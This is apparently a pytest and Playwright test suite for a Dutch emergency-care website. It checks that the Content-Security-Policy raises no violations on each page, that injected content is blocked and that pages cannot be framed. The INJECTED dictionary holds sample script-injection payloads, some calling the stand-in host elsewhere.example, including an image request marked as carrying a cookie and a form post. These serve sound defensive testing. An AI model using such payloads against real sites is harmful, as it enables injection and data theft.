"""The policy that every page carries: no page of ours breaks it, and it stops what an attacker would put in."""

import re
from datetime import UTC, datetime

import pytest
from playwright.sync_api import BrowserContext, Page
from tests.serving import Site
from tests.web import country
from tests.web.country import Country

LISTEN = """window.broken = [];
addEventListener("securitypolicyviolation", (event) => window.broken.push(
    `${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));"""
BOARD = "/regions/ROAZ-05/?module=spoed"
PAGES = [
    "/",
    "/sign-in/",
    "/national/",
    "/regions/",
    BOARD,
    f"{BOARD}&wall=1",
    f"{BOARD}&at=2026-01-01T10:00",
    "/places/?kind=spoed:seh&where=Utrecht",
    "/map/?module=spoed",
    "LOCATION",
    "/api/",
    "/ui/components/",
    "/ui/components/wall/",
    "/privacy/",
    "/bestaat-niet/",
]


@pytest.fixture(scope="module", autouse=True)
def land(own_database: str) -> Country:
    now = datetime.now(UTC)
    country.load(at=now)
    built = country.build(at=now)
    country.fill(built, now=now)
    country.account(built, at=now)
    return built


@pytest.fixture
def reader(context: BrowserContext, page: Page) -> Page:
    """Somebody signed in, on a page that keeps what its policy refuses."""
    context.add_init_script(LISTEN)
    page.goto("/sign-in/")
    page.get_by_label("E-mailadres").fill(country.READER)
    page.get_by_label("Wachtwoord").fill(country.PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("/national/"))
    return page


def test_no_page_breaks_the_policy(reader: Page, land: Country) -> None:
    for where in PAGES:
        answer = reader.goto(where.replace("LOCATION", f"/locations/{land.locations[0]}/"))
        assert answer
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        reader.wait_for_load_state("load")
        if "/map/" in where:
            reader.locator(".leaflet-interactive").first.wait_for()
            reader.get_by_role("button", name="Inzoomen").click()
        reader.wait_for_timeout(300)
        assert reader.evaluate("window.broken") == [], where


INJECTED = {
    "script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.ran = 1\">x</p>');"
    "document.body.lastElementChild.click()",
    "address": "document.body.insertAdjacentHTML('beforeend', '<a href=\"javascript:window.ran = 1\">x</a>');"
    "document.body.lastElementChild.click()",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "elsewhere": "const s = document.createElement('script'); s.src = 'https://elsewhere.example/x.js';"
    "document.body.append(s)",
    "image": "new Image().src = 'https://elsewhere.example/?cookie'",
    "connect": "fetch('https://elsewhere.example/').catch(() => 0)",
    "base": "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://elsewhere.example/\">')",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://elsewhere.example/\"></iframe>')",
    "form": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://elsewhere.example/\"></form>');"
    "document.body.lastElementChild.submit()",
}


@pytest.mark.parametrize("what", INJECTED)
def test_what_an_attacker_puts_into_a_page_is_stopped(context: BrowserContext, what: str) -> None:
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto("/sign-in/")
    page.evaluate(INJECTED[what])
    page.wait_for_function("() => window.broken.length > 0")
    assert page.evaluate("window.ran ?? null") is None


def test_no_page_can_be_framed_not_even_by_our_own_site(context: BrowserContext, site: Site) -> None:
    page = context.new_page()
    failed: list[str] = []
    page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
    frame = '<iframe src="/sign-in/"></iframe>'
    page.route("**/frame", lambda route: route.fulfill(content_type="text/html", body=frame))
    with page.expect_event("requestfailed"):
        page.goto("/frame")
    page.wait_for_timeout(500)  # nothing else comes
    assert failed == [f"{site.address}/sign-in/ net::ERR_BLOCKED_BY_RESPONSE"]
